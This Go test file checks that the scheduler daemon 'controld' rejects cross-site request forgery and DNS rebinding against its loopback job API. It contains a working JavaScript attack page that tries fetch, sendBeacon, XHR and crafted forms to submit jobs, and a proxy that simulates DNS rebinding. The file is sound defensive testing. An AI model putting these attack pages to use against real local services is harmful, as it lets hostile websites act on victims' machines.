package controld

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/rota-hpc/rota/controld/api"
	"github.com/rota-hpc/rota/jobspec"
)

// submission is the body of a request that submits a job.
func submission(t testing.TB) string {
	t.Helper()
	b, err := json.Marshal(api.SubmitRequest{Jobs: []*jobspec.Job{job("evil")}})
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// jobsOf counts the jobs of a cluster.
func jobsOf(t testing.TB, s *running) int {
	t.Helper()
	list, _, err := s.client(user(0)).Jobs(t.Context(), api.JobFilter{All: true}, api.Read{})
	if err != nil {
		t.Fatal(err)
	}
	return len(list.Items)
}

// browserRequest is a request as a browser makes it for a page.
type browserRequest struct {
	method, path, host string
	headers            []string // name and value by turns
	body               bool
	want               int
}

// TestRequestsOfWebPages is an attack by a web page. It makes its reader's browser submit jobs at a
// loopback address (CSRF), or reads the queue by a name that suddenly resolves to this machine (DNS
// rebinding). The headers are those that Chromium sends.
func TestRequestsOfWebPages(t *testing.T) {
	s := start(t, controller(t, "c1"))
	s.ready()
	at := s.addrs.Loopback
	_, port, err := net.SplitHostPort(at)
	if err != nil {
		t.Fatal(err)
	}
	evil := []string{"Origin", "http://evil.example", "Sec-Fetch-Site", "cross-site", "Sec-Fetch-Mode", "no-cors"}
	with := func(h []string, more ...string) []string { return slices.Concat(h, more) }
	plain := []string{"Content-Type", "text/plain;charset=UTF-8"}
	asJSON := []string{"Content-Type", "application/json"}
	submit := func(host string, headers []string, want int) browserRequest {
		return browserRequest{"POST", "/v1/jobs", host, headers, true, want}
	}
	for name, r := range map[string]browserRequest{
		"fetch, no-cors":           submit("", with(evil, plain...), 403),
		"fetch with JSON":          submit("", with(evil, asJSON...), 403),
		"form, text/plain":         submit("", with(evil, "Content-Type", "text/plain"), 403),
		"form, urlencoded":         submit("", with(evil, "Content-Type", "application/x-www-form-urlencoded"), 403),
		"form, multipart":          submit("", with(evil, "Content-Type", "multipart/form-data; boundary=x"), 403),
		"form of an opaque origin": submit("", with(asJSON, "Origin", "null"), 403),
		"page of another port": submit("", with(asJSON, "Origin", "http://127.0.0.1:8000", "Sec-Fetch-Site", "same-site"),
			403),
		"no Origin, another site":     submit("", with(asJSON, "Sec-Fetch-Site", "cross-site"), 403),
		"old browser without either":  submit("", plain, 415),
		"no type":                     submit("", nil, 415),
		"a type that begins well":     submit("", []string{"Content-Type", "application/jsonp"}, 415),
		"rebinding, same origin":      submit("evil.example:"+port, with(asJSON, "Sec-Fetch-Site", "same-origin"), 421),
		"rebinding without a port":    submit("evil.example", asJSON, 421),
		"rebinding to 0.0.0.0":        submit("0.0.0.0:"+port, asJSON, 421),
		"a name that begins well":     submit("localhost.evil.example:"+port, asJSON, 421),
		"another address of loopback": submit("127.0.0.2:"+port, asJSON, 421),
		"reading by rebinding":        {"GET", "/v1/jobs?all=true", "evil.example:" + port, nil, false, 421},
		"reading by a script":         {"GET", "/v1/jobs", "", []string{"Sec-Fetch-Site", "cross-site"}, false, 403},
		"reading metrics":             {"GET", "/metrics", "evil.example", nil, false, 421},
		"cancel without a body": {"POST", "/v1/jobs/1/cancel", "", []string{"Origin", "http://evil.example"}, false,
			403},
		"cancel without a body, as a form": {"POST", "/v1/jobs/1/cancel", "",
			[]string{"Content-Type", "application/x-www-form-urlencoded"}, false, 415},
		"preflight": {"OPTIONS", "/v1/jobs", "", with(evil, "Access-Control-Request-Method", "POST",
			"Access-Control-Request-Headers", "content-type"), false, 403},
		"preflight of a private network": {"OPTIONS", "/v1/jobs", "", with(evil, "Access-Control-Request-Method", "POST",
			"Access-Control-Request-Private-Network", "true"), false, 403},
	} {
		t.Run(name, func(t *testing.T) {
			resp := r.send(t, at)
			if resp.StatusCode != r.want {
				t.Errorf("answered %d, want %d", resp.StatusCode, r.want)
			}
			for h := range resp.Header {
				if strings.HasPrefix(h, "Access-Control-") {
					t.Errorf("a page is told %s: %s", h, resp.Header.Get(h))
				}
			}
		})
	}
	if n := jobsOf(t, s); n != 0 {
		t.Fatalf("%d jobs came of it", n)
	}
	for name, r := range map[string]browserRequest{
		"by address":                 submit("", asJSON, 200),
		"by localhost":               submit("localhost:"+port, with(asJSON, "Sec-Fetch-Site", "none"), 200),
		"with charset":               submit("", []string{"Content-Type", "application/json; charset=utf-8"}, 200),
		"typed into the address bar": {"GET", "/v1/jobs", "", []string{"Sec-Fetch-Site", "none"}, false, 200},
	} {
		if resp := r.send(t, at); resp.StatusCode != r.want {
			t.Errorf("%s: a program is answered %d", name, resp.StatusCode)
		}
	}
}

func (r *browserRequest) send(t testing.TB, at string) *http.Response {
	t.Helper()
	var body io.Reader
	if r.body {
		body = strings.NewReader(submission(t))
	}
	req, err := http.NewRequestWithContext(t.Context(), r.method, "http://"+at+r.path, body)
	if err != nil {
		t.Fatal(err)
	}
	req.Host = r.host
	for h := range slices.Chunk(r.headers, 2) {
		req.Header.Set(h[0], h[1])
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	return resp
}

// attacks is a page that tries every way to submit a job at TARGET, and to read the queue there. It
// says at /done when it is through. BODY is the submission, as a string of JavaScript.
const attacks = `<!doctype html><body><script>
const target = %q, body = %q, seen = [];
const frame = n => { const f = document.createElement('iframe'); f.name = n; document.body.append(f) };
const form = (enctype, name) => {
  frame(name);
  const f = document.createElement('form');
  Object.assign(f, {method: 'POST', action: target + '/v1/jobs', target: name, enctype});
  const i = document.createElement('input');
  i.name = body.slice(0, -1) + ',"x":"'; i.value = '"}';
  f.append(i); document.body.append(f); f.submit();
};
const tried = async (name, what) => { try { const r = await what(); seen.push(name + ':' + (r.status ?? r)) }
  catch (e) { seen.push(name + ':' + e.name) } };
const post = (options) => fetch(target + '/v1/jobs', {method: 'POST', body, ...options});
(async () => {
  await tried('nocors', () => post({mode: 'no-cors'}));
  await tried('nocors-type', () => post({mode: 'no-cors', headers: {'Content-Type': 'application/json'}}));
  await tried('cors', () => post({headers: {'Content-Type': 'application/json'}}));
  await tried('cors-plain', () => post({}));
  await tried('blob', () => post({mode: 'no-cors', body: new Blob([body], {type: 'text/plain'})}));
  await tried('beacon', () => navigator.sendBeacon(target + '/v1/jobs', body));
  await tried('keepalive', () => post({mode: 'no-cors', keepalive: true}));
  await tried('noreferrer', () => post({mode: 'no-cors', referrerPolicy: 'no-referrer'}));
  await tried('xhr', () => new Promise((ok, no) => { const x = new XMLHttpRequest();
    x.open('POST', target + '/v1/jobs'); x.onload = () => ok(x);
    x.onerror = () => no(new Error('xhr')); x.send(body) }));
  await tried('read', async () => (await (await fetch(target + '/v1/jobs')).text()).length ? 'READ' : 'empty');
  form('text/plain', 'f1'); form('application/x-www-form-urlencoded', 'f2'); form('multipart/form-data', 'f3');
  await new Promise(r => setTimeout(r, 1000));
  await fetch('%s/done', {method: 'POST', mode: 'no-cors', body: seen.join(' ')});
})();
</script>`

// evilSite serves the attacks on a target, and returns what the page said when it was through.
type evilSite struct {
	*httptest.Server
	done chan string
}

func newEvilSite(t testing.TB, target string) *evilSite {
	t.Helper()
	e := &evilSite{done: make(chan string, 16)}
	e.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/done" {
			b, _ := io.ReadAll(r.Body)
			e.done <- string(b)
			return
		}
		w.Header().Set("Content-Type", "text/html")
		w.Header().Set("Connection", "close")
		fmt.Fprintf(w, attacks, target, submission(t), e.URL)
	}))
	t.Cleanup(e.Close)
	return e
}

// visit opens a page in a browser and returns what the page says in the end.
func (e *evilSite) visit(t testing.TB, browser, page string, flags ...string) string {
	t.Helper()
	args := append([]string{"--no-sandbox", "--disable-gpu", "--headless", "--remote-debugging-port=0",
		"--user-data-dir=" + t.TempDir(), "--no-first-run", "--disable-dev-shm-usage",
		"--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests"}, flags...)
	cmd := exec.CommandContext(t.Context(), browser, append(args, page)...)
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	var out strings.Builder
	cmd.Stdout, cmd.Stderr = &out, &out
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer cmd.Wait()
	defer syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
	select {
	case got := <-e.done:
		return got
	case <-time.After(2 * time.Minute):
		t.Fatalf("the page at %s did not come to its end:\n%s", page, out.String())
		return ""
	}
}

// TestBrowser makes a real browser open pages that try to submit jobs and to read the queue. One is
// a page of another origin, the other a page whose name resolves to the controller once it is
// loaded. The same pages are successful at a server that checks nothing. Run it by make
// test-browser.
func TestBrowser(t *testing.T) {
	browser := os.Getenv("ROTA_TEST_BROWSER")
	if browser == "" {
		t.Skip("ROTA_TEST_BROWSER names no browser: make test-browser")
	}
	s := start(t, controller(t, "c1"))
	s.ready()
	var careless atomic.Int64
	decoy := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if b, _ := io.ReadAll(r.Body); r.Method == http.MethodPost && strings.Contains(string(b), "evil") {
			careless.Add(1)
		}
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Access-Control-Allow-Headers", "*")
		fmt.Fprint(w, "{}")
	}))
	defer decoy.Close()

	for _, test := range []struct {
		name, target string
		refused      bool
	}{{"careless", decoy.URL, false}, {"controller", "http://" + s.addrs.Loopback, true}} {
		e := newEvilSite(t, test.target)
		t.Logf("%s: %s", test.name, e.visit(t, browser, e.URL))
		careless.Store(checkVisit(t, test.name+", another origin", s, careless.Load(), test.refused))

		at := strings.TrimPrefix(test.target, "http://")
		e = newEvilSite(t, "")
		page := rebind(t, strings.TrimPrefix(e.URL, "http://"), at)
		got := e.visit(t, browser, page, "--host-resolver-rules=MAP evil.example 127.0.0.1")
		t.Logf("%s, rebinding: %s", test.name, got)
		if strings.Contains(got, "nocors:200") == test.refused {
			t.Errorf("%s, rebinding: %s", test.name, got)
		}
		careless.Store(checkVisit(t, test.name+", rebinding", s, careless.Load(), test.refused))
	}
}

// checkVisit compares what came of a visit: jobs at the controller never, requests at the careless
// server only when it was the target.
func checkVisit(t *testing.T, name string, s *running, careless int64, refused bool) int64 {
	t.Helper()
	if n := jobsOf(t, s); n != 0 {
		t.Errorf("%s: %d jobs came of it", name, n)
	}
	if (careless > 0) == refused {
		t.Errorf("%s: a server that checks nothing got %d submissions", name, careless)
	}
	return 0
}

// rebind returns the address of a page by a name of its own. Its first connection reaches the page,
// and every later one the target, as if the name resolved to another address by then.
func rebind(t testing.TB, page, target string) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	var first sync.Once
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				head := make([]byte, 4096)
				n, err := c.Read(head)
				if err != nil || n == 0 {
					return // opened ahead of need
				}
				to := target
				first.Do(func() { to = page })
				up, err := net.Dial("tcp", to)
				if err != nil {
					return
				}
				defer up.Close()
				_, _ = up.Write(head[:n])
				go func() { _, _ = io.Copy(up, c) }()
				_, _ = io.Copy(c, up)
			}()
		}
	}()
	_, port, _ := net.SplitHostPort(l.Addr().String())
	return (&url.URL{Scheme: "http", Host: "evil.example:" + port, Path: "/"}).String()
}
